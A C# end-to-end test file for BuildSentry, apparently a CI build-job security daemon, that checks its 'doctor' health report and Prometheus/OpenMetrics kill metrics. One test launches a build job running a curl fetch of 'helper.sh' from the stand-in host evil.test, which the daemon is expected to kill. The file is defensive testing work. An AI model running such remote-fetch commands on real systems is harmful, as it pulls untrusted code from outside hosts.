using System.Text.Json;
using BuildSentry.Testing;
using BuildSentry.Testing.Lab;

namespace BuildSentry.EndToEnd;

/// <summary>What the platform team runs against a live daemon: <c>doctor</c> and the metrics.</summary>
[Collection(LabCollection.Name)]
public sealed class OperationsTests(NetworkLabFixture fixture)
{
    /// <summary>Parses an exposition with prometheus_client (Debian's python3-prometheus-client) and prints each sample as
    /// <c>name{labels} value</c>, labels sorted: the OpenMetrics parser is strict (families, suffixes, # EOF).</summary>
    private const string Parser = """
        import sys
        from prometheus_client.openmetrics.parser import text_string_to_metric_families as openmetrics
        from prometheus_client.parser import text_string_to_metric_families as prometheus
        parse = openmetrics if sys.argv[1] == "openmetrics" else prometheus
        for family in parse(sys.stdin.read()):
            for s in family.samples:
                labels = ",".join(f'{k}="{v}"' for k, v in sorted(s.labels.items()))
                print(f"{s.name}{{{labels}}} {s.value}")
        """;

    private NetworkLab Lab => fixture.Lab;

    [Fact]
    public async Task Doctor_passes_against_a_running_daemon_on_this_host()
    {
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));

        var result = await Command.RunAsync(DaemonProcess.Binary, ["doctor", "--json", "--config", Path.Combine(daemon.Directory, "buildsentry.yaml"),
            "--gitlab-config", Path.Combine(daemon.Directory, "none.toml"), "--buildkite-hooks", Path.Combine(daemon.Directory, "none")]);

        Assert.True(result.ExitCode == 0, result.ToString());
        var checks = JsonDocument.Parse(result.StandardOutput).RootElement.GetProperty("checks").EnumerateArray()
            .ToDictionary(c => c.GetProperty("name").GetString()!, c => c.GetProperty("status").GetString());
        Assert.Equal("ok", checks["daemon"]);
        Assert.Equal("ok", checks["process sensor"]);
        Assert.Equal("ok", checks["capture"]);
        Assert.Equal("ok", checks["bpf"]);
        Assert.Equal("ok", checks[$"alert target tcp://127.0.0.1:{daemon.Alerts.Port}"]);
        Assert.Equal("warn", checks["control group"]);
    }

    [Fact]
    public async Task The_metrics_parse_as_OpenMetrics_and_the_textfile_counts_the_kill_the_daemon_made()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        var textfile = Path.Combine(Directory.CreateTempSubdirectory("buildsentry-metrics-").FullName, "buildsentry.prom");
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill")
        {
            ExtraConfiguration = $"metrics:\n  textfile: {textfile}\n  interval_seconds: 1\n",
        });
        using var job = BuildJob.Start(Lab, "curl -s -m 10 -o /dev/null http://evil.test/helper.sh; echo survived");
        var run = await job.WaitAsync();
        Assert.True(run.ExitCode == 137, run.ToString());
        await daemon.WaitForAlertAsync(a => a.GetProperty("action").GetString() == "killed");

        var samples = await WaitForSamplesAsync(textfile, "buildsentry_kills_total{}", 1);
        Assert.Equal(1, samples["buildsentry_kill_latency_seconds_count{}"]);
        Assert.Equal(1, samples["buildsentry_kill_latency_seconds_bucket{le=\"+Inf\"}"]);
        Assert.InRange(samples["buildsentry_kill_latency_seconds_sum{}"], 0, 1);
        Assert.True(samples["buildsentry_verdicts_total{verdict=\"denied\"}"] >= 1);
        Assert.Equal(1, samples["buildsentry_process_sensor_info{sensor=\"ebpf\"}"]);

        // The same numbers as status, over the control socket, as strict OpenMetrics.
        var metrics = await daemon.CliAsync("metrics", "--openmetrics");
        Assert.True(metrics.Succeeded, metrics.ToString());
        Assert.EndsWith("# EOF\n", metrics.StandardOutput);
        var parsed = await ParseAsync(metrics.StandardOutput, "openmetrics");
        var status = JsonDocument.Parse((await daemon.CliAsync("status", "--json")).StandardOutput).RootElement;
        var counters = status.GetProperty("counters");
        Assert.Equal(counters.GetProperty("kills").GetInt64(), parsed["buildsentry_kills_total{}"]);
        Assert.Equal(counters.GetProperty("jobsStarted").GetInt64(), parsed["buildsentry_jobs_started_total{}"]);
        var target = status.GetProperty("alertTargets")[0].GetProperty("target").GetString();
        int received;
        lock (daemon.Alerts.Records)
        {
            received = daemon.Alerts.Records.Count;
        }

        Assert.InRange(parsed[$"buildsentry_alert_target_sent_total{{target=\"{target}\"}}"], received, received + 2);

        await daemon.StopAsync();
        Assert.False(File.Exists(textfile), "the textfile outlived the daemon");
    }

    private static async Task<Dictionary<string, double>> WaitForSamplesAsync(string textfile, string sample, double expected)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(15);
        var samples = new Dictionary<string, double>();
        while (DateTime.UtcNow < deadline)
        {
            if (File.Exists(textfile))
            {
                samples = await ParseAsync(await File.ReadAllTextAsync(textfile), "prometheus");
                if (samples.GetValueOrDefault(sample) == expected)
                {
                    return samples;
                }
            }

            await Task.Delay(200);
        }

        throw new TimeoutException($"no '{sample} {expected}' in {textfile}: {string.Join("\n", samples.Select(s => $"{s.Key} {s.Value}"))}");
    }

    private static async Task<Dictionary<string, double>> ParseAsync(string exposition, string format)
    {
        using var process = new System.Diagnostics.Process
        {
            StartInfo = new System.Diagnostics.ProcessStartInfo("/usr/bin/python3")
            {
                ArgumentList = { "-c", Parser, format }, RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true,
            },
        };
        process.Start();
        await process.StandardInput.WriteAsync(exposition);
        process.StandardInput.Close();
        var output = await process.StandardOutput.ReadToEndAsync();
        var error = await process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync();
        Assert.True(process.ExitCode == 0, $"{format} parser rejected the exposition: {error}\n{exposition}");
        return output.Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .ToDictionary(l => l[..l.LastIndexOf(' ')], l => double.Parse(l[(l.LastIndexOf(' ') + 1)..], System.Globalization.CultureInfo.InvariantCulture));
    }
}
